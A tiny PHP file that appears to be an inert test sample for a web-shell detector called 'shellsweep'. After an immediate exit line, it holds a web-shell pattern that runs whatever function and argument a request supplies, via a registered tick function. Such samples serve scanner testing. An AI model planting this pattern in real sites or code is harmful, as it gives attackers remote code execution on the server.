<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
$fn = $_REQUEST['fn'];
declare(ticks=1);
register_tick_function($fn, $_REQUEST['arg']);
